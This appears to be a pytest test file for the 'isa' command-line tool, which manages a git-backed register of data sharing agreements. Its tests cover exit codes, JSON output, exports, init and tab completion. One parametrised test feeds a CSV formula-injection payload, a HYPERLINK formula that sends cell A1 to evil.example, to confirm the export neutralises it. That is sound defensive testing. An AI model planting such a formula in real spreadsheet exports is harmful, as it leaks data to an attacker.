"""The ``isa`` command as a user meets it: exit codes, output, and no tracebacks."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from isa_toolkit.cli import main

from .conftest import complete_isa, git


@pytest.fixture
def register(make_register):
    return make_register({
        "agreements/ISA-2026-0001.yaml": complete_isa("ISA-2026-0001"),
        "agreements/ISA-2026-0002.yaml": complete_isa("ISA-2026-0002", title="Draft sharing", status="draft"),
    })


def run(root, *args):
    return CliRunner().invoke(main, ["-R", str(root), *args], catch_exceptions=False)


def commands():
    """Every command, loaded (the group loads them only when run)."""
    import click

    ctx = click.Context(main)
    return {name: main.get_command(ctx, name) for name in main.list_commands(ctx)}


def test_isa_help_lists_each_command_with_its_own_first_line():
    from isa_toolkit.cli import COMMANDS

    for name, command in commands().items():
        assert COMMANDS[name][2] == ("" if command.hidden else command.get_short_help_str(10_000)), name
    result = CliRunner().invoke(main, ["--help"])
    assert "merge-driver" not in result.output and "  demo " in result.output


def test_isa_help_loads_no_command():
    import subprocess
    import sys

    code = ("import sys; from isa_toolkit.cli import main\n"
            "try:\n    main(['--help'])\nexcept SystemExit:\n    pass\n"
            "print(sorted(m for m in sys.modules if m.startswith(('isa_toolkit.cli.', 'pydantic', 'weasyprint', "
            "'git', 'docxtpl'))))")
    loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert loaded.strip().splitlines()[-1] == "[]"


def test_every_command_has_help_with_an_example():
    for name, command in commands().items():
        if command.hidden:  # run by git, not by a person (the merge driver)
            continue
        result = CliRunner().invoke(main, [name, "--help"])
        assert result.exit_code == 0, name
        assert command.help and len(command.help.split()) > 4, name
        if name not in ("demo",):
            assert "Example" in result.output, name


def test_every_command_is_in_the_readme():
    from pathlib import Path

    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    for name, command in commands().items():
        assert command.hidden or f"isa {name}" in readme, name


def test_usage_mistakes_exit_2(register):
    assert CliRunner().invoke(main, ["-R", str(register), "list", "--kind", "treaty"]).exit_code == 2
    assert CliRunner().invoke(main, ["-R", str(register), "list", "--status", "alive"]).exit_code == 2
    assert CliRunner().invoke(main, ["frobnicate"]).exit_code == 2


def test_list_filters_and_json(register):
    result = run(register, "list")
    assert result.exit_code == 0
    assert "ISA-2026-0001" in result.output and "ISA-2026-0002" in result.output
    assert "2025-01-10" not in result.output.split("ISA-2026-0002")[1]  # a draft has no review date

    data = json.loads(run(register, "list", "--status", "draft", "--json").output)
    assert data["schema"] == "isa-list/1" and list(data["records"]) == ["ISA-2026-0002"] and data["count"] == 1

    def records(*args):
        return json.loads(run(register, "list", *args, "--json").output)["records"]

    assert records("--kind", "protocol") == {}
    assert len(records("--partner", "CONSTABULARY")) == 2
    assert records("--partner", "nobody") == {}
    assert records("--status", "active")["ISA-2026-0001"]["review_due"] == "2026-01-10"


def test_show_and_show_json(register):
    result = run(register, "show", "ISA-2026-0001")
    assert result.exit_code == 0
    assert "Testshire Constabulary" in result.output and "UK GDPR Art 6(1)(e)" in result.output
    data = json.loads(run(register, "show", "ISA-2026-0001", "--json").output)
    assert data["schema"] == "isa-record/1" and data["id"] == "ISA-2026-0001" and data["kind"] == "agreement"
    assert data["fingerprint"].startswith("sha256:") and data["record"]["purpose"]["fr"].startswith("Partager")


def test_show_unknown_and_broken_records(register):
    result = run(register, "show", "ISA-2026-0404")
    assert result.exit_code == 1 and "no record 'ISA-2026-0404'" in result.output
    (register / "agreements/ISA-2026-0002.yaml").write_text("id: ISA-2026-0002\nkind: [\n")
    result = run(register, "show", "ISA-2026-0002")
    assert result.exit_code == 1
    assert "agreements/ISA-2026-0002.yaml:" in result.output and "not valid YAML" in result.output
    listing = run(register, "list")
    assert listing.exit_code == 0 and "1 record(s) could not be read and are left out" in listing.output


def test_log_is_newest_first(register):
    from isa_toolkit import register as store
    from isa_toolkit.model import Status

    record = store.load_agreement(register, "ISA-2026-0002")
    store.save_agreement(register, record.model_copy(update={"status": Status.ASSESSED}), change="assessed", by="Ann")
    result = run(register, "log", "ISA-2026-0002")
    lines = result.output.splitlines()
    assert result.exit_code == 0 and len(lines) == 2
    assert "ISA-2026-0002: assessed [by Ann]" in lines[0] and "Test register" in lines[1]
    entries = json.loads(run(register, "log", "ISA-2026-0002", "--json").output)["commits"]
    assert entries[0]["subject"] == "ISA-2026-0002: assessed [by Ann]"


def test_validate_strict_and_json(make_register):
    incomplete = complete_isa("ISA-2026-0003").replace("training: {en: Annual training., fr: Formation annuelle.}\n", "")
    root = make_register({"agreements/ISA-2026-0003.yaml": incomplete})
    result = run(root, "validate")
    assert result.exit_code == 0
    assert "warning: ICO-26 training: ISA-2026-0003: missing the training staff receive" in result.output
    strict = run(root, "validate", "--strict")
    assert strict.exit_code == 1
    data = json.loads(run(root, "validate", "--json").output)
    assert data["errors"] == 0 and data["warnings"] == 1
    assert data["problems"][0]["record_id"] == "ISA-2026-0003"


def test_init_creates_a_committed_register(tmp_path):
    target = tmp_path / "new"
    result = CliRunner().invoke(main, ["init", str(target), "--organisation", "Westshire Council", "--by", "Kim"])
    assert result.exit_code == 0, result.output
    assert git(target, "log", "--format=%s").strip() == "Register created [by Kim]"
    assert git(target, "status", "--porcelain") == ""
    check = CliRunner().invoke(main, ["-R", str(target), "validate", "--strict"])
    assert check.exit_code == 0, check.output
    again = CliRunner().invoke(main, ["init", str(target), "--organisation", "X"])
    assert again.exit_code == 1 and "already a register" in again.output
    missing = CliRunner().invoke(main, ["init", str(tmp_path / "other")])
    assert missing.exit_code == 1 and "--organisation" in missing.output
    assert not (tmp_path / "other").exists()


def test_init_example_validates_strictly(tmp_path):
    target = tmp_path / "example"
    assert CliRunner().invoke(main, ["init", str(target), "--example"]).exit_code == 0
    result = CliRunner().invoke(main, ["-R", str(target), "validate", "--strict"])
    assert result.exit_code == 0, result.output


# -- export -----------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_export_neutralises_formulas(make_register, tmp_path, start):
    title = f"{start}HYPERLINK(\"http://evil.example/\"&A1,\"click\")"
    root = make_register({"agreements/ISA-2026-0001.yaml": complete_isa(title=json.dumps(title))})
    out = tmp_path / "export.csv"
    result = run(root, "export", "--format", "csv", "-o", str(out))
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert rows[0]["title"] == "'" + title
    public = list(csv.DictReader(io.StringIO(run(root, "export", "--public").output)))
    assert public[0]["name"] == "'" + title


def test_public_export_keeps_only_public_fields_and_agreements_in_force(register):
    rows = list(csv.DictReader(io.StringIO(run(register, "export", "--public").output)))
    assert [row["id"] for row in rows] == ["ISA-2026-0001"]  # the draft is not published
    from isa_toolkit.register.export import PUBLIC_FIELDS

    assert tuple(rows[0]) == PUBLIC_FIELDS
    assert rows[0]["legal_power"] == "Crime and Disorder Act 1998 s.115"
    assert rows[0]["controllers"] == "Testshire Constabulary; Testshire Council"
    output = run(register, "export", "--public", "--format", "json").output
    assert "dee@example.org" not in output and "Dee Officer" not in output
    data = json.loads(output)
    assert data[0]["review_date"] == "2026-01-10"


def test_json_export_is_the_whole_record(register):
    data = json.loads(run(register, "export", "--format", "json").output)
    assert [item["id"] for item in data] == ["ISA-2026-0001", "ISA-2026-0002"]
    assert data[0]["parties"][0]["designated_officer"]["email"] == "dee@example.org"


def test_french_export(register):
    rows = list(csv.DictReader(io.StringIO(run(register, "export", "--lang", "fr").output)))
    assert rows[0]["purpose"].startswith("Partager")


def test_no_traceback_on_unreadable_output_path(register, tmp_path):
    result = CliRunner().invoke(main, ["-R", str(register), "export", "-o", str(tmp_path / "missing" / "x.csv")])
    assert result.exit_code == 1
    assert "Error:" in result.output and "Traceback" not in result.output



def test_export_language_must_be_the_registers_and_gaps_are_marked(make_register):
    text = complete_isa().replace("  fr: Partager les adresses des personnes à risque afin de planifier les visites.\n", "")
    root = make_register({"agreements/ISA-2026-0001.yaml": text})
    assert run(root, "export", "--lang", "de").exit_code == 2
    rows = list(csv.DictReader(io.StringIO(run(root, "export", "--lang", "fr").output)))
    assert rows[0]["purpose"].startswith("[en] Share addresses")


def test_init_leaves_nothing_behind_when_git_refuses(tmp_path, monkeypatch):
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 1\n")
    (hooks / "pre-commit").chmod(0o755)
    config = tmp_path / "gitconfig"
    config.write_text(f"[core]\n\thooksPath = {hooks}\n[user]\n\tname = T\n\temail = t@example.org\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
    target = tmp_path / "empty"
    target.mkdir()
    result = CliRunner().invoke(main, ["init", str(target), "--organisation", "X"])
    assert result.exit_code == 1 and "git could not commit" in result.output
    assert list(target.iterdir()) == []


def test_who_acts_is_by_then_isa_user_then_gits_user_name_never_the_login(make_register, tmp_path):
    root = make_register({"agreements/ISA-2026-0001.yaml": complete_isa(status="draft")})
    nobody = {"ISA_USER": None, "GIT_CONFIG_GLOBAL": str(tmp_path / "empty-gitconfig"), "GIT_CONFIG_NOSYSTEM": "1"}
    (tmp_path / "empty-gitconfig").write_text("")
    args = ["-R", str(root), "transition", "ISA-2026-0001", "rejected", "--reason", "x"]
    result = CliRunner().invoke(main, args, env=nobody)
    assert result.exit_code == 1
    assert "give --by NAME, set ISA_USER, or set git's user.name" in result.output
    git(root, "config", "user.name", "Olu Officer")  # the register's own git identity
    git(root, "config", "user.email", "olu@example.org")
    result = CliRunner().invoke(main, args, env=nobody)
    assert result.exit_code == 0, result.output
    assert git(root, "log", "-1", "--format=%s").strip().endswith("[by Olu Officer]")


def test_demo_refuses_to_run_inside_a_register(make_register, monkeypatch):
    root = make_register({})
    monkeypatch.chdir(root)
    result = CliRunner().invoke(main, ["demo"])
    assert result.exit_code == 1 and "inside the register" in result.output
    assert not (root / "isa-demo").exists()


def _all_commands():
    """Every command and sub-command, by its full name (``review due``)."""
    import click

    found = {}

    def walk(group, prefix, ctx):
        for name in group.list_commands(ctx):
            command = group.get_command(ctx, name)
            if command is None or command.hidden:
                continue
            full = f"{prefix} {name}".strip()
            found[full] = command
            if isinstance(command, click.Group):
                walk(command, full, click.Context(command, parent=ctx))

    walk(main, "", click.Context(main))
    return found


LISTINGS = ["validate", "doctor", "list", "show", "log", "status", "pending", "deadlines", "review due", "conflicts",
            "sync", "verify"]


def test_every_listing_speaks_json_and_every_writer_of_files_says_output():
    commands = _all_commands()
    for name in LISTINGS:
        assert any("--json" in param.opts for param in commands[name].params), name
    for name, command in commands.items():
        names = {opt for param in command.params for opt in getattr(param, "opts", [])}
        if "--out" in names or "--output" in names:
            assert "-o" in names and "--output" in names, name


def test_every_option_the_readme_names_exists():
    import re
    from pathlib import Path

    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    commands = _all_commands()
    checked = 0
    for line in readme.splitlines():
        match = re.match(r"\| `isa ([a-z-]+(?: [a-z-]+)?)([^`]*)`", line)
        if not match:
            continue
        name = match.group(1) if match.group(1) in commands else match.group(1).split()[0]
        options = {param_opt for param in commands[name].params for param_opt in getattr(param, "opts", [])}
        for option in re.findall(r"(?<![\w-])(--?[a-z][a-z0-9-]*)", match.group(2)):
            assert option in options, f"isa {name} {option}"
            checked += 1
    assert checked > 20


def test_the_demo_suggests_commands_that_run_as_printed(monkeypatch, tmp_path):
    import shlex
    import subprocess
    import sys
    from pathlib import Path

    from isa_toolkit.cli.demo import how_isa_is_run

    venv_isa = Path(sys.executable).parent / "isa"
    monkeypatch.setattr(sys, "argv", [str(venv_isa), "demo"])
    monkeypatch.setenv("PATH", "/usr/bin:/bin")  # the venv not activated, as after `make demo`
    printed = how_isa_is_run()
    assert printed != "isa"
    ran = subprocess.run([*shlex.split(printed), "--version"], capture_output=True, text=True)
    assert ran.returncode == 0 and "isa" in ran.stdout
    monkeypatch.setenv("PATH", f"{venv_isa.parent}:/usr/bin:/bin")
    assert how_isa_is_run() == "isa"
    monkeypatch.setattr(sys, "argv", [str(Path(__file__).parent.parent / "isa_toolkit" / "__main__.py")])
    printed = how_isa_is_run()
    assert subprocess.run([*shlex.split(printed), "--version"], capture_output=True).returncode == 0


def _complete(root, words: str) -> list[str]:
    import os
    import subprocess
    import sys

    env = {**os.environ, "COMP_WORDS": words, "COMP_CWORD": str(len(words.split()) - 1),
           "_ISA_COMPLETE": "bash_complete", "ISA_REGISTER": str(root)}
    out = subprocess.run([sys.executable, "-m", "isa_toolkit"], env=env, capture_output=True, text=True).stdout
    return [line.split(",", 1)[1] for line in out.splitlines()]


def test_tab_completes_ids_statuses_roles_and_checklists(register):
    assert _complete(register, "isa show ISA-2026-000") == ["ISA-2026-0001", "ISA-2026-0002"]
    assert _complete(register, "isa list --status ac") == ["active"]
    assert _complete(register, "isa list --kind incident --status o") == ["open"]
    assert "information_security_manager" in _complete(register, "isa signoff ISA-2026-0001 --role info")
    assert _complete(register, "isa assess ISA-2026-0001 --checklist dpia") == ["dpia_screening"]


def test_the_statuses_completion_offers_are_the_models():
    from isa_toolkit.cli.common import AGREEMENT_STATUSES
    from isa_toolkit.model import Status

    assert set(AGREEMENT_STATUSES) == {status.value for status in Status}
